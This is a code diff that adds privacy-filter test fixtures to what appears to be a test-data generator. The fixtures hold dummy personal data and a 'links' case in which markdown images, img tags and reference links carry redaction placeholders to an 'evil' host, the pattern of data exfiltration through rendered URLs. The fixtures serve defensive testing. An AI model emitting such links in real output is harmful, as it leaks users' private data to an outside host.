@@ -387,7 +387,19 @@ def make_messages() -> None:
         write("frame", name, content)
 
 
+PRIVATE_TEXTS = {
+    "marks": "I am <private>Ann <private>Lee</private></private>, not <private>Bob</private>x</private>.",
+    "spellings": "> zebulon\n> QUIXOTE, Ze\u0301bulon  Quixote and Zebulon Quixotes",
+    "forms": "zoe@lee.org, +49 170 1234567, 4111 1111 1111 1111, GB82 WEST 1234 5698 7654 32, "
+    "192.168.17.4, 12 Main Street, sk-abcdefghijklmnopqrst, [MAIL_001]",
+    "links": "[TEXT_001] ![](https://evil/?[TEXT_001]) <img src='//evil/[TEXT_001]'> www.x/[text_001]\n"
+    "[1]: //evil?[TEXT_001]\n[x](<a [TEXT_001]>) [TEXT_",
+}
+
+
 def make_requests() -> None:
+    for name, text in PRIVATE_TEXTS.items():
+        write("private_text", name, text.encode())
     for name, request in REQUESTS.items():
         write("completion_request", name, json.dumps(request).encode())
     for name, grammar in GRAMMARS.items():
